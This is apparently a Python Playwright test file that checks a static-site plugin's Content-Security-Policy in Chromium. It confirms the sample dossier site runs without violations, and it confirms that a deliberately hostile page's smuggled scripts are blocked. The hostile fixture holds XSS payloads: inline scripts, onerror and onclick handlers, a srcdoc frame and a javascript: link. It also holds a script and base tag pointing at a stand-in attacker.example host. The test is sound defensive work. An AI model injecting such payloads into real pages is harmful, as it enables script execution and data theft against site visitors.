"""`csp: true` in Chromium: the sample site runs under its Content-Security-Policy with
zero violations, from file:// and over HTTP (search, palette, hover text, maps), and a
page whose raw HTML smuggles in scripts has every one of them refused.

Violations are read twice: as `securitypolicyviolation` events caught by a script the
browser runs before the page's own, and as the console messages Chromium writes for
each one, in every frame (the search worker's iframe, srcdoc frames) included."""

from __future__ import annotations

import functools
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from pagetypes import HITTABLE_MARKER, entry_summary
from sitebuild import run_build, write_tree

pytestmark = pytest.mark.browser

SEED = "articles/2020-12-23-us-considering-closing-iraqi-embassy.html"
QAANI = "people/ismail-qaani.html"
PAGES = [SEED, QAANI, "places/baghdad.html", "places/index.html", "events/index.html"]
SCHEMES = ["file", "http"]
TIMEOUT_MS = 15_000  # as in conftest.py: generous, never reached when it works

CATCH_VIOLATIONS = """
window.__csp = [];
window.addEventListener('securitypolicyviolation', e => window.__csp.push({
    directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample,
    source: e.sourceFile}), true);
"""


TAKE_VIOLATIONS = "() => { const seen = window.__csp || []; window.__csp = []; return seen; }"


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format, *args):  # noqa: A002 (the base class's name)
        pass


@contextmanager
def served(site: Path) -> Iterator[str]:
    """`site` over HTTP on 127.0.0.1 (a free port), for as long as the block runs."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=site))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@dataclass
class Tab:
    """A browser tab on one site, with every CSP violation and off-site request it saw."""

    page: object
    base: str
    console: list[str] = field(default_factory=list)
    events: list[dict] = field(default_factory=list)
    external: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def open(self, path: str) -> None:
        self.collect()
        self.page.goto(self.base + path, wait_until="load")

    def collect(self) -> None:
        """Move the current page's violation events into `events`."""
        if self.page.url != "about:blank":
            self.events += self.page.evaluate(TAKE_VIOLATIONS)

    def violations(self) -> tuple[list[dict], list[str]]:
        self.collect()
        return self.events, [m for m in self.console if "Content Security Policy" in m]

    def clear(self) -> None:
        self.collect()
        self.events.clear()
        self.console.clear()


@pytest.fixture
def open_tab(browser) -> Iterator:
    """Factory: (site, "file" or "http", context options) -> Tab; closes them after."""
    contexts = []
    with _Servers() as servers:

        def make(site: Path, scheme: str, **options) -> Tab:
            base = site.as_uri() + "/" if scheme == "file" else servers.base(site)
            context = browser.new_context(**options)
            context.set_default_timeout(TIMEOUT_MS)
            context.add_init_script(CATCH_VIOLATIONS)
            contexts.append(context)
            page = context.new_page()
            tab = Tab(page, base)

            def route(route) -> None:
                url = route.request.url
                if url.startswith(("file:", "data:", "blob:", base)):
                    route.continue_()
                else:
                    tab.external.append(url)
                    route.abort("blockedbyclient")

            context.route("**/*", route)
            page.on("console", lambda message: tab.console.append(message.text))
            page.on("pageerror", lambda error: tab.errors.append(f"{page.url}: {error}"))
            return tab

        yield make
        for context in contexts:
            context.close()


class _Servers:
    """One HTTP server per site a test opens."""

    def __init__(self) -> None:
        self.bases: dict[Path, str] = {}
        self.stack: list = []

    def base(self, site: Path) -> str:
        if site not in self.bases:
            manager = served(site)
            self.bases[site] = manager.__enter__()
            self.stack.append(manager)
        return self.bases[site]

    def __enter__(self) -> _Servers:
        return self

    def __exit__(self, *exc) -> None:
        for manager in reversed(self.stack):
            manager.__exit__(None, None, None)


@pytest.fixture(scope="module")
def csp_site(csp_sample_site) -> Path:
    assert csp_sample_site.returncode == 0, csp_sample_site.log
    return csp_sample_site.site


SCHEME_IS = "scheme => document.body.getAttribute('data-md-color-scheme') === scheme"

INJECT_INLINE_SCRIPT = """() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.appendChild(script);
    return window.injected === true;
}"""


def _policy(page) -> str:
    return page.evaluate(
        "document.head.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content"
    )


@pytest.mark.parametrize("scheme", SCHEMES)
def test_the_sample_runs_under_its_policy_with_zero_violations(open_tab, csp_site, scheme):
    tab = open_tab(csp_site, scheme, viewport={"width": 1280, "height": 800})
    page = tab.page
    tab.open("index.html")
    assert "script-src 'self' 'sha256-" in _policy(page)
    # The theme's inline scripts ran (they define __md_get), by their hashes.
    assert page.evaluate("typeof window.__md_get") == "function"
    if scheme == "file":
        assert page.evaluate("window.Worker === window.IFrameWorker")

    # Search: the worker (an iframe under file://) loads the index and answers.
    page.locator(".md-search__input").click()
    page.keyboard.type("Qaani")
    page.locator(f".md-search-result__link[href*='{QAANI}']").first.wait_for(state="visible")
    page.keyboard.press("Escape")

    # Palette: the reader's toggle steps through automatic, light and dark.
    before = page.evaluate("document.body.getAttribute('data-md-color-scheme')")
    other = "slate" if before == "default" else "default"
    for _ in range(3):
        if page.evaluate(f"({SCHEME_IS})('{other}')"):
            break
        page.locator("form[data-md-component='palette'] label:visible").first.click()
    page.wait_for_function(SCHEME_IS, arg=other)

    # The hover card of a mention (dossier-cards.js), on hover and on keyboard focus.
    tab.open(SEED)
    mention = page.locator("a.dossier-mention[data-entity='person:ismail-qaani']").first
    mention.hover()
    mention.focus()
    page.locator("#dossier-card").wait_for(state="visible")
    assert entry_summary("people", "ismail-qaani") in page.locator("#dossier-card").inner_text()

    # The map, styled by the site's own stylesheet, and a marker leading to its place.
    svg = page.locator("svg.dossier-map").first
    assert svg.is_visible()
    fill = page.evaluate("getComputedStyle(document.querySelector('.dossier-country')).fill")
    assert fill and fill not in ("none", "rgb(0, 0, 0)"), fill
    target = page.evaluate(HITTABLE_MARKER)
    assert target, "no map marker can be clicked"
    page.mouse.click(target["x"], target["y"])
    slug = target["entity"].split(":", 1)[1]
    page.wait_for_url(re.compile(rf"/places/{re.escape(slug)}\.html$"))

    for path in PAGES + (["404.html"] if scheme == "http" else []):
        tab.open(path)
        assert _policy(page), path
    events, console = tab.violations()
    assert events == [] and console == [], (events, console)
    assert tab.external == [] and tab.errors == [], (tab.external, tab.errors)

    # The policy is in force: a script the page did not ship is refused.
    assert page.evaluate(INJECT_INLINE_SCRIPT) is False
    events, console = tab.violations()
    assert [e["directive"] for e in events] == ["script-src-elem"], events
    assert len(console) == 1, console


@pytest.mark.parametrize(
    ("width", "scheme"), [(1280, "light"), (1280, "dark"), (390, "light"), (390, "dark")]
)
def test_screenshots_under_the_policy(open_tab, csp_site, artifacts, width, scheme):
    phone = width < 500
    tab = open_tab(
        csp_site,
        "http",
        viewport={"width": width, "height": 844 if phone else 800},
        color_scheme=scheme,
        is_mobile=phone,
        has_touch=phone,
    )
    page = tab.page
    for path, name in ((SEED, "article"), (QAANI, "entity")):
        tab.open(path)
        page.wait_for_function(SCHEME_IS, arg="slate" if scheme == "dark" else "default")
        # Material's stylesheet applies: the header has its primary colour.
        header = page.evaluate("getComputedStyle(document.querySelector('.md-header')).position")
        assert header == "sticky", header
        out = artifacts / f"csp-{name}-{width}-{scheme}.png"
        page.screenshot(path=str(out), full_page=True)
        assert out.stat().st_size > 10_000, f"{out} looks empty"
    events, console = tab.violations()
    assert events == [] and console == [], (events, console)


# --- a page whose raw HTML carries scripts -----------------------------------------------

HOSTILE_CONFIG = """\
site_name: Hostile
docs_dir: content
use_directory_urls: false
theme:
  name: material
  font: false
plugins:
  - search
  - dossier:
      csp: {csp}
markdown_extensions:
  - attr_list
"""

# Everything here passes through Markdown on purpose (raw HTML, attr_list): no escaping
# can tell it from the HTML an editor means to write.
HOSTILE = """\
---
title: Hostile <script>(window.pwned = window.pwned || []).push("title")</script>
---

# Scripts in the page

<script>(window.pwned = window.pwned || []).push("script")</script>

<img alt="" src="data:," onerror="(window.pwned = window.pwned || []).push('onerror')">

<iframe srcdoc="<script>(parent.pwned = parent.pwned || []).push('srcdoc')</script>"></iframe>

<a id="js-link" href="javascript:(window.pwned = window.pwned || []).push('href')">a link</a>

A paragraph that runs code when clicked.
{: #click-me onclick="(window.pwned = window.pwned || []).push('attr_list')" }

<script src="https://attacker.example/steal.js"></script>

<base href="https://attacker.example/">
"""

PAYLOADS = {"script", "onerror", "srcdoc", "href", "attr_list"}


def _build_hostile(root: Path, csp: bool) -> Path:
    write_tree(root, {"content/index.md": "# Home\n", "content/hostile.md": HOSTILE})
    build = run_build(root, config=HOSTILE_CONFIG.format(csp=str(csp).lower()))
    assert build.returncode == 0, build.log
    return build.site


@pytest.fixture(scope="module")
def hostile_sites(tmp_path_factory) -> dict[bool, Path]:
    root = tmp_path_factory.mktemp("hostile")
    return {csp: _build_hostile(root / f"csp-{csp}", csp) for csp in (False, True)}


def _attack(tab: Tab) -> list[str]:
    """Open the hostile page, click what runs code on a click; what ran."""
    page = tab.page
    tab.open("hostile.html")
    page.locator("#click-me").click()
    page.locator("#js-link").click()
    page.wait_for_timeout(500)
    return page.evaluate("window.pwned || []")


@pytest.mark.parametrize("scheme", SCHEMES)
def test_without_the_policy_the_smuggled_scripts_run(open_tab, hostile_sites, scheme):
    """The payloads are live: what the policy stops below does run without it."""
    tab = open_tab(hostile_sites[False], scheme)
    assert set(_attack(tab)) == PAYLOADS


@pytest.mark.parametrize("scheme", SCHEMES)
def test_the_policy_refuses_every_smuggled_script(open_tab, hostile_sites, scheme):
    tab = open_tab(hostile_sites[True], scheme)
    assert _attack(tab) == []
    events, console = tab.violations()
    directives = {e["directive"] for e in events}
    # Inline <script>, event-handler attributes, the javascript: link, the remote
    # script and the <base>; the srcdoc frame's refusal shows in its console.
    assert {"script-src-elem", "script-src-attr", "base-uri"} <= directives, events
    assert any(e["blocked"].startswith("https://attacker.example/") for e in events), events
    assert len(console) > len(events), "no refusal reported from the srcdoc frame"
    # Refused before asking: nothing left the site.
    assert tab.external == [], tab.external
